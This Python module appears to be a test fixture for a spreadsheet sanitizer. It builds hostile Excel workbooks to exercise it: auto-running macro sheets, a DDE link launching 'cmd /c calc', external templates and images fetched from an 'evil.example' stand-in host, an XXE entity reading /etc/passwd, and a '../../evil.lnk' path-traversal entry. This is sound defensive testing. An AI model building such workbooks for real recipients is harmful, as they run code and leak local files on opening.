"""Workbooks that somebody made to reach whoever opens the copy: one trick each, to be combined."""

from collections.abc import Callable

from tests.unit.workbook.annotate import hostile_cells
from tests.unit.workbook.annotate.packing import (
    BOOK,
    BOOK_RELATIONS,
    EVIL,
    MICROSOFT,
    OFFICE,
    SHEET,
    SHEET_RELATIONS,
    Parts,
    at_the_end,
    declare,
    relate,
)


def _macros(parts: Parts) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    parts["xl/vbaProject.bin"] = b"\x01"
    declare(parts, "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    relate(parts, BOOK_RELATIONS, f"{MICROSOFT}/vbaProject", "vbaProject.bin")


def _macro_sheet(parts: Parts) -> None:
    parts["xl/macrosheets/sheet1.xml"] = (
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    )
    kind = f"{MICROSOFT}/xlMacrosheet"
    identifier = relate(parts, BOOK_RELATIONS, kind, "macrosheets/sheet1.xml")
    sheet = f'<sheet name="Macro1" sheetId="99" r:id="{identifier}"/></sheets>'
    names = '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>'
    book = parts[BOOK].replace(b"</sheets>", sheet.encode())
    parts[BOOK] = book.replace(b"</definedNames>", names.encode())


def _second_list_of_names(parts: Parts) -> None:
    names = '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
    inner = '<bookViews><definedName name="x">[1]!y</definedName></bookViews>'
    parts[BOOK] = parts[BOOK].replace(
        b"</workbook>", f"{names}</definedNames>{inner}</workbook>".encode()
    )


def _dde_link(parts: Parts) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    kind, goal = f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml"
    identifier = relate(parts, BOOK_RELATIONS, kind, goal)
    links = f'<externalReferences><externalReference r:id="{identifier}"/></externalReferences>'
    parts[BOOK] = parts[BOOK].replace(b"<definedNames>", f"{links}<definedNames>".encode())


def _objects(parts: Parts) -> None:
    parts["xl/embeddings/oleObject1.bin"] = b"\xd0\xcf"
    kind, goal = f"{OFFICE}/oleObject", "../embeddings/oleObject1.bin"
    identifier = relate(parts, SHEET_RELATIONS, kind, goal)
    ole = f'<oleObject progId="Package" shapeId="1025" r:id="{identifier}"/>'
    at_the_end(parts, f"<oleObjects>{ole}</oleObjects>")
    at_the_end(
        parts,
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006'
        f'"><mc:Choice Requires="x14"><controls><control shapeId="1" r:id="{identifier}"/>'
        "</controls></mc:Choice></mc:AlternateContent>",
    )


def _linked_object(parts: Parts) -> None:
    relate(parts, SHEET_RELATIONS, f"{OFFICE}/oleObject", f"file:///{EVIL}", outside=True)
    at_the_end(parts, '<oleObjects><oleObject link="[1]!x" shapeId="1"/></oleObjects>')


def _template(parts: Parts) -> None:
    for file in ("_rels/.rels", BOOK_RELATIONS):
        relate(parts, file, f"{OFFICE}/attachedTemplate", EVIL, outside=True)
    relate(parts, BOOK_RELATIONS, f"{OFFICE}/worksheet", EVIL, outside=True)


def _lower_case_mode(parts: Parts) -> None:
    relate(parts, SHEET_RELATIONS, f"{OFFICE}/image", EVIL, outside=True)
    parts[SHEET_RELATIONS] = parts[SHEET_RELATIONS].replace(b'"External"', b'"external"')


def _queries(parts: Parts) -> None:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts["xl/connections.xml"] = (
        f'<connections xmlns="{space}"><connection id="1" type="5" refreshOnLoad="1">'
        f'<dbPr connection="{EVIL}"/></connection></connections>'
    ).encode()
    relate(parts, BOOK_RELATIONS, f"{OFFICE}/connections", "connections.xml")
    parts["xl/queryTables/queryTable1.xml"] = f'<queryTable xmlns="{space}"/>'.encode()
    relate(parts, SHEET_RELATIONS, f"{OFFICE}/queryTable", "../queryTables/queryTable1.xml")
    parts["customXml/item1.xml"] = b"<x/>"
    relate(parts, "_rels/.rels", f"{OFFICE}/customXml", "customXml/item1.xml")


def _instructions(parts: Parts) -> None:
    for name in (SHEET, BOOK, "xl/styles.xml"):
        style = f'<?xml-stylesheet href="{EVIL}" type="text/xsl"?><!-- {EVIL} --><'.encode()
        head, rest = parts[name].split(b"?>", 1)
        parts[name] = head + b"?>" + rest.replace(b"<", style, 1)


def _theme(parts: Parts) -> None:
    name = "xl/theme/theme1.xml"
    blip = (
        b'<a:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships" r:link="rIdX0"/></a:blipFill></a:bgFillStyleLst>'
    )
    parts[name] = parts[name].replace(b"</a:bgFillStyleLst>", blip)
    file = "xl/theme/_rels/theme1.xml.rels"
    relate(parts, file, f"{OFFICE}/image", EVIL, outside=True)


def _pictures(parts: Parts) -> None:
    parts["xl/drawings/drawing1.xml"] = b"<x/>"
    identifier = relate(parts, SHEET_RELATIONS, f"{OFFICE}/drawing", "../drawings/drawing1.xml")
    at_the_end(parts, f'<drawing r:id="{identifier}"/><picture r:id="{identifier}"/>')
    file = "xl/drawings/_rels/drawing1.xml.rels"
    relate(parts, file, f"{OFFICE}/image", EVIL, outside=True)
    parts["xl/drawings/vmlDrawing1.vml"] = (
        b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata src="http://evil'
        b'.example/x"/></v:shape></xml>'
    )
    kind, goal = f"{OFFICE}/vmlDrawing", "../drawings/vmlDrawing1.vml"
    at_the_end(parts, f'<legacyDrawing r:id="{relate(parts, SHEET_RELATIONS, kind, goal)}"/>')


def _button(parts: Parts) -> None:
    name = "xl/drawings/vmlDrawing9.vml"
    parts[name] = (
        b'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:'
        b'excel"><v:shape id="_x0000_s1030"><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!x'
        b"</x:FmlaMacro></x:ClientData></v:shape></xml>"
    )
    kind, goal = f"{OFFICE}/vmlDrawing", "../drawings/vmlDrawing9.vml"
    at_the_end(parts, f'<legacyDrawing r:id="{relate(parts, SHEET_RELATIONS, kind, goal)}"/>')


def _odd_files(parts: Parts) -> None:
    parts["evil.exe"] = parts["../../evil.lnk"] = b"MZ"
    parts["docProps/app.xml"] = (
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-'
        b'properties"><HyperlinkBase>http://evil.example/x</HyperlinkBase></Properties>'
    )
    parts["xl/printerSettings/printerSettings1.bin"] = b"\x00"


def _other_encoding(parts: Parts) -> None:
    text = parts[SHEET].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    parts[SHEET] = text.encode("utf-16")


def _entities(parts: Parts) -> None:
    head, rest = parts[SHEET].split(b"?>", 1)
    dtd = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    parts[SHEET] = head + b"?>" + dtd + rest


TRICKS: dict[str, Callable[[Parts], None]] = {
    "macros": _macros,
    "macro-sheet": _macro_sheet,
    "second-list-of-names": _second_list_of_names,
    "dde-link": _dde_link,
    "objects": _objects,
    "linked-object": _linked_object,
    "link": hostile_cells.link,
    "template": _template,
    "lower-case-mode": _lower_case_mode,
    "queries": _queries,
    "names": hostile_cells.names,
    "rules": hostile_cells.rules,
    "formulas": hostile_cells.formulas,
    "shapes-of-formulas": hostile_cells.shapes_of_formulas,
    "unlisted-sheet": hostile_cells.unlisted_sheet,
    "extensions": hostile_cells.extensions,
    "instructions": _instructions,
    "theme": _theme,
    "pictures": _pictures,
    "button": _button,
    "odd-files": _odd_files,
    "other-encoding": _other_encoding,
    "entities": _entities,
}
REFUSED = {"other-encoding", "entities"}  # as a whole: no copy
UNMISSED = {"odd-files", "instructions", "second-list-of-names"}  # nobody sees that it is gone
